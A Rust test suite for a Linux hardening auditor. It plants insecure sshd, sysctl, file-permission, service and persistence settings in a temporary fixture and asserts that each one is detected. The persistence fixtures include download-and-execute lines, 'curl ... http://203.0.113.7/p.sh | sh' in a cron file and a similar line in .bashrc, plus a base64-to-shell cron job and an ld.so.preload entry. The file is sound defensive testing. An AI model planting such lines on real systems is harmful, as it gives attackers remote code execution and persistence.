//! A fixture root with every problem planted (one test per check), a clean fixture with none,
//! special files (FIFO, socket, device) in every place a module reads, and the live sysctl
//! values against `sysctl -a`.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

use ferret_core::{Control, Finding, HostRoot, Outcome, Severity};
use ferret_harden::{audit_root as audit, Check, HardenOptions};
use std::os::unix::fs::PermissionsExt;
use std::path::Path;

const KEY: &str = "AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl";

/// Options running `checks` only.
fn only(checks: &[Check]) -> HardenOptions {
    let mut o = HardenOptions::default();
    o.checks = checks.to_vec();
    o
}

fn sshd_opts(config: &str) -> ferret_harden::sshd::SshdOptions {
    let mut o = ferret_harden::sshd::SshdOptions::default();
    o.config = config.into();
    o
}

use ferret_testkit::put as w;

fn mode(root: &Path, p: &str, m: u32) {
    std::fs::set_permissions(
        root.join(p.trim_start_matches('/')),
        std::fs::Permissions::from_mode(m),
    )
    .unwrap();
}

fn ids() -> (String, String) {
    let uid = nix::unistd::getuid().as_raw();
    let gid = nix::unistd::getgid().as_raw();
    (
        format!("root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\nme:x:{uid}:{gid}::/nonexistent:/usr/sbin/nologin\n"),
        format!("root:x:0:\nalice:x:1000:\nme:x:{gid}:\nsshusers:x:1001:alice\n"),
    )
}

struct Planted {
    out: Outcome,
    root: HostRoot,
    // Removed when the test's `Planted` is dropped, so no set-id fixture outlives the tests
    // (a live audit of the machine would otherwise report them).
    _dir: tempfile::TempDir,
}

/// A root with every problem planted, audited; each test builds its own (a few ms).
fn planted() -> Planted {
    {
        let dir = tempfile::Builder::new()
            .prefix("harden-planted-root")
            .tempdir_in(env!("CARGO_TARGET_TMPDIR"))
            .unwrap();
        let r = dir.path();
        let (passwd, group) = ids();
        w(r, "etc/passwd", &passwd);
        w(r, "etc/group", &group);
        w(r, "etc/ssh/sshd_config", "# planted\nPermitRootLogin yes\nPasswordAuthentication yes\nPermitEmptyPasswords yes\nKbdInteractiveAuthentication yes\nUsePAM no\nMaxAuthTries 10\nX11Forwarding yes\nAllowTcpForwarding yes\nAllowAgentForwarding yes\nPermitUserEnvironment yes\nCiphers +aes128-cbc\nMACs +hmac-md5\nKexAlgorithms +diffie-hellman-group1-sha1\nLogLevel QUIET\nStrictModes no\nAuthorizedKeysFile .ssh/authorized_keys .ssh/authorized_keys2 /tmp/keys/%u\n");
        w(r, "etc/ssh/sshd_match.conf", "PermitRootLogin no\nPasswordAuthentication no\nAllowGroups sshusers\nCiphers arcfour256,aes256-ctr\nMatch User alice\n  PasswordAuthentication yes\n");
        // sysctl precedence: /etc masks /usr/lib of the same name; /run and sysctl.conf apply.
        w(
            r,
            "usr/lib/sysctl.d/60-x.conf",
            "kernel.kptr_restrict = 0\n",
        );
        w(r, "etc/sysctl.d/60-x.conf", "kernel.kptr_restrict = 1\n");
        w(
            r,
            "etc/sysctl.d/50-bad.conf",
            "net.ipv4.ip_forward = 1\nkernel/randomize_va_space = 0\n",
        );
        w(r, "run/sysctl.d/70-y.conf", "fs.suid_dumpable = 2\n");
        w(
            r,
            "etc/sysctl.conf",
            "net.ipv4.tcp_syncookies = 0\nnot a line\n",
        );
        // files
        w(r, "tmp/.x/bash", "ELF");
        mode(r, "tmp/.x/bash", 0o4755);
        w(r, "usr/local/bin/suidtool", "ELF");
        mode(r, "usr/local/bin/suidtool", 0o4755);
        w(r, "usr/bin/passwd", "ELF");
        mode(r, "usr/bin/passwd", 0o4755);
        w(
            r,
            "var/lib/dpkg/info/passwd.list",
            "/.\n/usr\n/usr/bin\n/usr/bin/passwd\n",
        );
        w(r, "opt/data.txt", "x");
        mode(r, "opt/data.txt", 0o666);
        std::fs::create_dir_all(r.join("srv/drop")).unwrap();
        mode(r, "srv/drop", 0o777);
        w(r, "opt/orphan", "x");
        if nix::unistd::geteuid().is_root() {
            std::os::unix::fs::chown(r.join("opt/orphan"), Some(4242), Some(4242)).unwrap();
        }
        // persistence
        w(
            r,
            "etc/ld.so.preload",
            "/usr/lib/x86_64-linux-gnu/libhide.so\n",
        );
        w(
            r,
            "etc/cron.d/evil",
            "SHELL=/bin/sh\n*/5 * * * * root curl -fsSL http://203.0.113.7/p.sh | sh\n",
        );
        w(
            r,
            "var/spool/cron/crontabs/alice",
            "@reboot /dev/shm/.k/kworker\n",
        );
        w(
            r,
            "etc/cron.daily/upd",
            "#!/bin/sh\necho ZWNobyBoaQ== | base64 -d | sh\n",
        );
        w(r, "root/.ssh/authorized_keys", &format!("ssh-ed25519 {KEY} admin@laptop\ncommand=\"/usr/local/bin/backup\",no-pty ssh-ed25519 {KEY} backup\n"));
        w(
            r,
            "home/alice/.ssh/authorized_keys2",
            &format!("ssh-ed25519 {KEY} hidden\n"),
        );
        w(
            r,
            "home/alice/.ssh/authorized_keys.bak",
            &format!("ssh-ed25519 {KEY} old\n"),
        );
        w(
            r,
            "etc/systemd/system/updater.service",
            "[Service]\nExecStart=/tmp/.u/run --quiet\n",
        );
        w(
            r,
            "etc/rc.local",
            "#!/bin/sh -e\n/opt/agent/start &\nexit 0\n",
        );
        w(
            r,
            "home/alice/.bashrc",
            "alias ll='ls -l'\ncurl -s http://203.0.113.7/x | bash >/dev/null 2>&1\n",
        );
        // services
        std::fs::create_dir_all(r.join("etc/systemd/system/sockets.target.wants")).unwrap();
        std::os::unix::fs::symlink(
            "/lib/systemd/system/telnet.socket",
            r.join("etc/systemd/system/sockets.target.wants/telnet.socket"),
        )
        .unwrap();
        w(r, "etc/inetd.conf", "# comment\nshell stream tcp nowait root /usr/sbin/tcpd /usr/sbin/in.rshd\n#finger stream tcp nowait nobody /usr/sbin/tcpd in.fingerd\n");
        w(
            r,
            "etc/xinetd.d/tftp",
            "service tftp\n{\n  socket_type = dgram\n  disable = no\n}\n",
        );
        w(
            r,
            "etc/xinetd.d/finger",
            "service finger\n{\n  disable = yes\n}\n",
        );
        let root = HostRoot::new(r).unwrap();
        let out = audit(&root, &HardenOptions::default(), &Control::new());
        Planted {
            out,
            root,
            _dir: dir,
        }
    }
}

fn find<'a>(out: &'a Outcome, id: &str) -> Vec<&'a Finding> {
    out.findings.iter().filter(|f| f.id == id).collect()
}

fn has(id: &str, sev: Severity, evidence: &str) {
    let p = planted();
    let fs = find(&p.out, id);
    assert!(
        fs.iter()
            .any(|f| f.severity == sev && f.evidence.iter().any(|e| e.to_string() == evidence)),
        "{id} {sev} @ {evidence} not found; got {:#?}",
        fs.iter().map(ToString::to_string).collect::<Vec<_>>()
    );
    for f in fs {
        assert!(
            f.detail.is_some() && f.remediation.is_some() || f.severity == Severity::Info,
            "{f}"
        );
    }
}

#[test]
fn sshd_checks() {
    let c = "/etc/ssh/sshd_config";
    has("sshd.permit-root-login", Severity::High, &format!("{c}:2"));
    has(
        "sshd.password-authentication",
        Severity::Medium,
        &format!("{c}:3"),
    );
    has(
        "sshd.permit-empty-passwords",
        Severity::High,
        &format!("{c}:4"),
    );
    has("sshd.kbd-interactive", Severity::Low, &format!("{c}:5"));
    has("sshd.use-pam", Severity::Low, &format!("{c}:6"));
    has("sshd.max-auth-tries", Severity::Low, &format!("{c}:7"));
    has("sshd.x11-forwarding", Severity::Low, &format!("{c}:8"));
    has("sshd.tcp-forwarding", Severity::Low, &format!("{c}:9"));
    has("sshd.agent-forwarding", Severity::Low, &format!("{c}:10"));
    has(
        "sshd.permit-user-environment",
        Severity::Medium,
        &format!("{c}:11"),
    );
    has("sshd.weak-ciphers", Severity::Medium, &format!("{c}:12"));
    has("sshd.weak-macs", Severity::Medium, &format!("{c}:13"));
    has("sshd.weak-kex", Severity::Medium, &format!("{c}:14"));
    has("sshd.log-level", Severity::Medium, &format!("{c}:15"));
    has("sshd.strict-modes", Severity::Medium, &format!("{c}:16"));
    has(
        "sshd.authorized-keys-file-writable",
        Severity::High,
        &format!("{c}:17"),
    );
    has("sshd.client-alive", Severity::Low, c);
    has("sshd.no-access-list", Severity::Low, c);
}

#[test]
fn sshd_match_block_that_weakens() {
    let out = ferret_harden::sshd::audit_root(
        &planted().root,
        &sshd_opts("/etc/ssh/sshd_match.conf"),
        &Control::new(),
    );
    let f = find(&out, "sshd.match-weakens");
    assert_eq!(f.len(), 1, "{out:#?}");
    assert_eq!(f[0].evidence[0].to_string(), "/etc/ssh/sshd_match.conf:6");
    // A cipher OpenSSH 9.2 no longer knows is still reported from the configured line.
    let weak = find(&out, "sshd.weak-ciphers");
    assert_eq!(weak.len(), 1);
    assert_eq!(
        weak[0].evidence[0].to_string(),
        "/etc/ssh/sshd_match.conf:4"
    );
    assert!(weak[0].detail.as_deref().unwrap().contains("arcfour256"));
    assert!(find(&out, "sshd.password-authentication").is_empty());
    assert!(find(&out, "sshd.no-access-list").is_empty());
}

#[test]
fn sysctl_checks_follow_precedence() {
    has(
        "sysctl.risky-value",
        Severity::Medium,
        "/etc/sysctl.d/50-bad.conf:1",
    );
    has(
        "sysctl.risky-value",
        Severity::High,
        "/etc/sysctl.d/50-bad.conf:2",
    );
    has(
        "sysctl.risky-value",
        Severity::Medium,
        "/run/sysctl.d/70-y.conf:1",
    );
    has("sysctl.risky-value", Severity::Medium, "/etc/sysctl.conf:1");
    let p = planted();
    // /usr/lib/sysctl.d/60-x.conf is masked by /etc/sysctl.d/60-x.conf.
    assert!(!p
        .out
        .findings
        .iter()
        .any(|f| f.subject.contains("kptr_restrict")));
    assert!(p
        .out
        .errors
        .iter()
        .any(|e| e.path.as_deref() == Some("/etc/sysctl.conf") && e.line == Some(2)));
    let mut o = Outcome::new();
    let conf = ferret_harden::sysctl::configured(&p.root, &mut o);
    assert_eq!(conf["kernel.kptr_restrict"].value, "1");
    assert_eq!(conf["kernel.randomize_va_space"].value, "0");
}

#[test]
fn files_checks() {
    has(
        "files.suid-unusual-location",
        Severity::High,
        "/tmp/.x/bash",
    );
    has(
        "files.suid-unpackaged",
        Severity::Medium,
        "/usr/local/bin/suidtool",
    );
    has(
        "files.suid-recent",
        Severity::Medium,
        "/usr/local/bin/suidtool",
    );
    has("files.suid-recent", Severity::Low, "/usr/bin/passwd");
    assert!(find(&planted().out, "files.suid-unpackaged")
        .iter()
        .all(|f| !f.subject.contains("passwd")));
    has("files.world-writable", Severity::Medium, "/opt/data.txt");
    has("files.world-writable-dir", Severity::Medium, "/srv/drop");
    if nix::unistd::geteuid().is_root() {
        has("files.unowned", Severity::Low, "/opt/orphan");
    } else {
        eprintln!("not root: the unowned-file plant (chown 4242) was not possible");
    }
}

#[test]
fn persistence_checks() {
    has(
        "persistence.ld-so-preload",
        Severity::Critical,
        "/etc/ld.so.preload:1",
    );
    has(
        "persistence.cron-download-exec",
        Severity::High,
        "/etc/cron.d/evil:2",
    );
    has(
        "persistence.cron-temp-path",
        Severity::High,
        "/var/spool/cron/crontabs/alice:1",
    );
    has(
        "persistence.cron-base64",
        Severity::High,
        "/etc/cron.daily/upd:2",
    );
    has(
        "persistence.authorized-keys-root-no-from",
        Severity::Medium,
        "/root/.ssh/authorized_keys:1",
    );
    has(
        "persistence.authorized-keys-forced-command",
        Severity::Medium,
        "/root/.ssh/authorized_keys:2",
    );
    has(
        "persistence.authorized-keys-unusual-file",
        Severity::High,
        "/home/alice/.ssh/authorized_keys2:1",
    );
    has(
        "persistence.authorized-keys-unusual-file",
        Severity::Medium,
        "/home/alice/.ssh/authorized_keys.bak",
    );
    has(
        "persistence.authorized-keys-count",
        Severity::Info,
        "/root/.ssh/authorized_keys:1",
    );
    has(
        "persistence.systemd-writable-exec",
        Severity::High,
        "/etc/systemd/system/updater.service:2",
    );
    has("persistence.rc-local", Severity::Medium, "/etc/rc.local:2");
    has(
        "persistence.profile-download-exec",
        Severity::High,
        "/home/alice/.bashrc:2",
    );
}

#[test]
fn no_key_material_in_output() {
    let json = serde_json::to_string(&planted().out).unwrap();
    assert!(
        !json.contains(KEY) && !json.contains(&KEY[..20]),
        "key material leaked"
    );
    assert!(json.contains("SHA256:"));
}

#[test]
fn services_checks() {
    has(
        "services.legacy-enabled",
        Severity::High,
        "/etc/systemd/system/sockets.target.wants/telnet.socket",
    );
    has(
        "services.legacy-enabled",
        Severity::High,
        "/etc/inetd.conf:2",
    );
    has(
        "services.legacy-enabled",
        Severity::High,
        "/etc/xinetd.d/tftp:1",
    );
    assert!(!planted()
        .out
        .findings
        .iter()
        .any(|f| f.title.contains("finger")));
}

#[test]
fn clean_fixture_has_no_findings() {
    let t = tempfile::tempdir().unwrap();
    let r = t.path();
    let (passwd, group) = ids();
    w(r, "etc/passwd", &passwd);
    w(r, "etc/group", &group);
    w(r, "etc/ssh/sshd_config", "Include /etc/ssh/sshd_config.d/*.conf\nPermitRootLogin no\nPasswordAuthentication no\nKbdInteractiveAuthentication no\nUsePAM yes\nMaxAuthTries 3\nX11Forwarding no\nDisableForwarding yes\nLogLevel VERBOSE\nClientAliveInterval 300\nClientAliveCountMax 2\nAllowGroups sshusers\nSubsystem sftp /usr/lib/openssh/sftp-server\n");
    w(r, "etc/ssh/sshd_config.d/README", "not included\n");
    w(r, "etc/sysctl.d/60-hardening.conf", "net.ipv4.conf.all.rp_filter = 1\nnet.ipv4.ip_forward = 0\nkernel.randomize_va_space = 2\nkernel.kptr_restrict = 2\nfs.suid_dumpable = 0\n# comment\n; comment\n");
    w(r, "etc/crontab", "SHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\n25 6\t* * *\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }\n");
    w(r, "etc/cron.d/e2scrub_all", "30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron\n10 3 * * * root test -e /run/systemd/system || SERVICE_MODE=1 /sbin/e2scrub_all -A -r\n");
    w(r, "etc/cron.daily/dpkg", "#!/bin/sh\nif [ -d /run/systemd/system ]; then\n    exit 0\nfi\n/usr/libexec/dpkg/dpkg-db-backup\n");
    w(r, "lib/systemd/system/ssh.service", "[Service]\nExecStartPre=/usr/sbin/sshd -t\nExecStart=/usr/sbin/sshd -D $SSHD_OPTS\nExecReload=/bin/kill -HUP $MAINPID\n");
    w(r, "etc/profile", "if [ \"$(id -u)\" -eq 0 ]; then\n  PATH=\"/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\"\nfi\nexport PATH\n");
    w(r, "etc/rc.local", "#!/bin/sh -e\n# nothing here\nexit 0\n");
    w(
        r,
        "home/alice/.ssh/authorized_keys",
        &format!("from=\"10.0.0.0/8\" ssh-ed25519 {KEY} alice@laptop\n"),
    );
    w(r, "var/lib/dpkg/info/base.list", "/.\n/usr\n");
    let root = HostRoot::new(r).unwrap();
    let out = audit(&root, &HardenOptions::default(), &Control::new());
    let noisy: Vec<String> = out
        .findings
        .iter()
        .filter(|f| f.id != "persistence.authorized-keys-count")
        .map(ToString::to_string)
        .collect();
    assert!(noisy.is_empty(), "false positives: {noisy:#?}");
    assert!(out.errors.is_empty(), "{:#?}", out.errors);
    assert_eq!(find(&out, "persistence.authorized-keys-count").len(), 1);
}

#[test]
fn special_files_never_block_and_are_reported() {
    use nix::sys::stat::{mknod, Mode, SFlag};
    let t = tempfile::tempdir().unwrap();
    let r = t.path();
    let (passwd, group) = ids();
    w(r, "etc/passwd", &passwd);
    w(r, "etc/group", &group);
    w(
        r,
        "etc/ssh/sshd_config",
        "Include /etc/ssh/sshd_config.d/*.conf\nPermitRootLogin no\n",
    );
    let fifo = |p: &str| {
        let full = r.join(p);
        std::fs::create_dir_all(full.parent().unwrap()).unwrap();
        nix::unistd::mkfifo(&full, Mode::from_bits_truncate(0o644)).unwrap();
    };
    fifo("etc/ssh/sshd_config.d/fifo.conf");
    fifo("etc/cron.d/fifo");
    fifo("etc/ld.so.preload");
    fifo("etc/sysctl.d/10-fifo.conf");
    fifo("root/.ssh/authorized_keys");
    fifo("etc/xinetd.d/fifo");
    fifo("etc/profile");
    std::fs::create_dir_all(r.join("etc/systemd/system")).unwrap();
    let _sock =
        std::os::unix::net::UnixListener::bind(r.join("etc/systemd/system/sock.service")).unwrap();
    std::fs::create_dir_all(r.join("var/spool/cron/crontabs")).unwrap();
    let _sock2 =
        std::os::unix::net::UnixListener::bind(r.join("var/spool/cron/crontabs/alice")).unwrap();
    let mut expected = vec![
        "/etc/ssh/sshd_config.d/fifo.conf",
        "/etc/cron.d/fifo",
        "/etc/ld.so.preload",
        "/etc/sysctl.d/10-fifo.conf",
        "/root/.ssh/authorized_keys",
        "/etc/xinetd.d/fifo",
        "/etc/profile",
        "/etc/systemd/system/sock.service",
        "/var/spool/cron/crontabs/alice",
    ];
    if nix::unistd::geteuid().is_root() {
        std::fs::create_dir_all(r.join("etc/profile.d")).unwrap();
        mknod(
            &r.join("etc/profile.d/zero.sh"),
            SFlag::S_IFCHR,
            Mode::from_bits_truncate(0o666),
            nix::sys::stat::makedev(1, 5),
        )
        .unwrap();
        expected.push("/etc/profile.d/zero.sh");
    }
    let root = HostRoot::new(r).unwrap();
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let out = audit(
            &root,
            &only(&[
                Check::Sshd,
                Check::Sysctl,
                Check::Persistence,
                Check::Services,
            ]),
            &Control::new(),
        );
        let _ = tx.send(out);
    });
    let out = rx
        .recv_timeout(std::time::Duration::from_secs(30))
        .expect("audit blocked on a special file");
    for p in expected {
        assert!(
            out.errors
                .iter()
                .any(|e| e.path.as_deref() == Some(p) && e.message.starts_with("skipped")),
            "{p} not reported as skipped: {:#?}",
            out.errors
        );
    }
}

#[test]
fn cancel_stops_the_walk() {
    let c = Control::new();
    c.cancel.cancel();
    let out = audit(&planted().root, &only(&[Check::Files]), &c);
    assert!(out.errors.iter().any(|e| e.message.contains("cancelled")));
}

#[test]
fn sysctl_runtime_matches_sysctl_a() {
    let root = HostRoot::live();
    let Ok(o) = std::process::Command::new("sysctl").arg("-a").output() else {
        eprintln!("skipped: sysctl (procps) not installed");
        return;
    };
    let text = String::from_utf8_lossy(&o.stdout);
    let theirs: std::collections::BTreeMap<String, String> = text
        .lines()
        .filter_map(|l| {
            l.split_once(" = ").map(|(k, v)| {
                (
                    k.to_string(),
                    v.split_whitespace().collect::<Vec<_>>().join(" "),
                )
            })
        })
        .collect();
    let ours = ferret_harden::sysctl::runtime_all(&root);
    // Counters and random values change between two reads.
    let volatile = [
        "kernel.random.",
        "fs.dentry-state",
        "fs.inode-",
        "fs.file-nr",
        "kernel.ns_last_pid",
        "net.netfilter.nf_conntrack_count",
        "fs.quota.",
        "kernel.pty.nr",
        "net.ipv4.tcp_fastopen_key",
        "fs.aio-nr",
    ];
    let mut compared = 0;
    let mut same = 0;
    let mut diff = Vec::new();
    for (k, v) in &theirs {
        if volatile.iter().any(|p| k.starts_with(p)) {
            continue;
        }
        if let Some(ov) = ours.get(k) {
            compared += 1;
            if ov == v {
                same += 1;
            } else {
                diff.push(format!("{k}: ours {ov:?} sysctl {v:?}"));
            }
        }
        // Single-key reads agree with the walk.
        if k == "kernel.randomize_va_space" {
            assert_eq!(
                ferret_harden::sysctl::runtime(&root, k).as_deref(),
                Some(v.as_str())
            );
        }
    }
    let coverage = f64::from(compared) / theirs.len().max(1) as f64;
    eprintln!(
        "sysctl -a: {} keys, {compared} compared ({:.1}%), {same} equal",
        theirs.len(),
        coverage * 100.0
    );
    assert!(coverage > 0.9, "coverage {coverage}");
    assert!(f64::from(same) / f64::from(compared) > 0.99, "{diff:#?}");
}

#[test]
fn progress_is_reported_by_the_walk() {
    use std::sync::atomic::{AtomicU64, Ordering};
    use std::sync::Arc;
    let seen = Arc::new(AtomicU64::new(0));
    let s2 = Arc::clone(&seen);
    let c = Control::new()
        .with_progress(move |p| {
            s2.fetch_max(p.items_done, Ordering::Relaxed);
        })
        .with_max_threads(1);
    let out = audit(&planted().root, &only(&[Check::Files]), &c);
    assert!(out.errors.is_empty(), "{:?}", out.errors);
    // Every entry of the planted root was counted (more than the 20-odd files planted).
    assert!(
        seen.load(Ordering::Relaxed) > 20,
        "{}",
        seen.load(Ordering::Relaxed)
    );
}

#[test]
fn cancel_from_progress_stops_the_live_walk_midway() {
    use std::sync::atomic::{AtomicU64, Ordering};
    use std::sync::Arc;
    let token = ferret_core::CancelToken::new();
    let (t, seen) = (token.clone(), Arc::new(AtomicU64::new(0)));
    let s2 = Arc::clone(&seen);
    // the walk reports every 8192 entries; the first report cancels it
    let c = Control::new().with_cancel(token).with_progress(move |p| {
        s2.fetch_max(p.items_done, Ordering::Relaxed);
        t.cancel();
    });
    let start = std::time::Instant::now();
    let out = audit(&HostRoot::live(), &only(&[Check::Files]), &c);
    let cancelled = out
        .errors
        .iter()
        .filter(|e| e.message == "cancelled" && e.path.is_none())
        .count();
    assert_eq!(cancelled, 1, "{:?}", out.errors);
    // a live root has hundreds of thousands of entries; the walk stopped soon after 8192
    let n = seen.load(Ordering::Relaxed);
    assert!((8192..100_000).contains(&n), "{n} entries walked");
    assert!(start.elapsed() < std::time::Duration::from_secs(60));
}
